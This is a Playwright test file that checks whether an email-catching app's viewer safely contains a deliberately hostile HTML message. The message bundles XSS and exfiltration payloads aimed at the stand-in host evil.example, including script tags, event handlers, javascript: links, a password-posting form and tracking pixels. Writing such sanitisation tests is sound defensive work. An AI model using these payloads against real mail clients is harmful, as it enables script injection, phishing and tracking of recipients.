import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openBrowser } from '../browser/visit.ts'
import { caught } from '../posthorn/scene.ts'
import { OLIVE, newProject, setUp, signIn } from '../posthorn/people.ts'
import { send } from '../posthorn/send.ts'
import { startPosthorn, type Posthorn } from '../posthorn/start.ts'

const MARK = 'You have won'

/** All that a mail could try on whoever looks at it. Each part that worked would show in a request or in the page. */
const HOSTILE = `
<html><head>
  <base href="https://evil.example/base/">
  <meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
  <link rel="stylesheet" href="https://evil.example/link.css">
  <link rel="prefetch" href="https://evil.example/prefetch">
  <style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/background) }</style>
  <script>top.pwned = 'head'; fetch('https://evil.example/script')</script>
</head><body onload="top.pwned = 'onload'">
  <h1>${MARK}</h1>
  <script src="https://evil.example/src.js"></script>
  <img src="https://evil.example/pixel.gif" onerror="top.pwned = 'onerror'" srcset="https://evil.example/set.gif 2x">
  <img src="relative.gif"><video poster="https://evil.example/poster"></video>
  <svg onload="top.pwned = 'svg'"><image href="https://evil.example/svg.gif"/><a xlink:href="javascript:top.pwned='xlink'"><text y="20">svg link</text></a></svg>
  <iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>top.pwned = 'srcdoc'</script>"></iframe>
  <object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
  <a id="script-link" href="javascript:top.pwned='link'">A script</a>
  <a id="plain-link" href="https://evil.example/link" target="_top" ping="https://evil.example/ping">Click here</a>
  <form action="https://evil.example/form" target="_top"><input name="password"><button id="submit">Submit</button></form>
  <div style="position:fixed;inset:0;background:url(https://evil.example/style)"></div>
</body></html>`

/** Chromium says what it held back: that is what was asked for here. */
const HELD_BACK = [
  /Content Security Policy directive/,
  /Blocked script execution in 'about:srcdoc'/,
  /Blocked form submission to/,
  /net::ERR_\w+ \(https:\/\/evil\.example\//,
]

let posthorn: Posthorn
/** Where mail is looked at. */
let places: Record<'email' | 'inbox', string>

beforeAll(async () => {
  posthorn = await startPosthorn()
  const { project, secretKey } = await newProject(posthorn, 'Acme')
  await setUp(posthorn)
  const { emailId = '' } = await send(posthorn, secretKey, { subject: 'A prize', body: HOSTILE, text: undefined })
  const message = await caught(posthorn, project.id, emailId)
  places = { email: `/p/${project.id}/emails/${emailId}`, inbox: `/p/${project.id}/inbox/${message.id}` }
})
afterAll(() => posthorn?.stop())

/** A browser in which every request to elsewhere is noted, and answered with nothing. */
async function openWatched(path: string): Promise<{ page: Page; outside: string[]; popups: string[] }> {
  const browser = await openBrowser(posthorn, { expected: HELD_BACK })
  const outside: string[] = []
  await browser.route(/evil\.example|relative\.gif/, async (route) => {
    outside.push(route.request().url())
    await route.fulfill({ status: 204 })
  })
  await signIn(posthorn, browser, OLIVE)
  const page = await browser.newPage()
  const popups: string[] = []
  browser.on('page', (popup) => void popups.push(popup.url()))
  page.on('dialog', (dialog) => void popups.push(dialog.message()))
  await page.goto(path)
  return { page, outside, popups }
}

test.each(['email', 'inbox'] as const)('a hostile mail in the %s runs nothing and loads nothing', async (place) => {
  const path = places[place]
  const { page, outside, popups } = await openWatched(path)
  const mail = page.frameLocator('iframe')
  await mail.getByRole('heading', { name: MARK }).waitFor()
  for (const id of ['script-link', 'plain-link', 'submit']) {
    // What lies over it is a part of the attack.
    await mail.locator(`#${id}`).dispatchEvent('click')
  }
  await page.getByRole('tab', { name: 'Source' }).click()
  await page.getByText('evil.example').first().waitFor()
  const pwned = await page.evaluate('globalThis.pwned')
  const { pathname } = new URL(page.url())
  expect({ pwned, outside, popups, pathname }).toEqual({ pwned: undefined, outside: [], popups: [], pathname: path })
})

test('its images and links work once that is asked for, and even then nothing else does', async () => {
  const { page, outside } = await openWatched(places.email)
  await page.getByRole('button', { name: 'Load images' }).click()
  await expect.poll(() => outside).toContain('https://evil.example/pixel.gif')
  await page.getByRole('button', { name: 'Make links work' }).click()
  const mail = page.frameLocator('iframe')
  expect(await mail.locator('#script-link').getAttribute('href')).toBeNull()
  expect(await mail.locator('#plain-link').getAttribute('href')).toBe('https://evil.example/link')
  await page.getByRole('tab', { name: 'Source' }).click()
  await page.getByText('evil.example').first().waitFor()
  expect(await page.evaluate('globalThis.pwned')).toBeUndefined()
  expect(outside.filter((url) => !/(?:gif|background|style|poster)$/.test(url))).toEqual([])
})
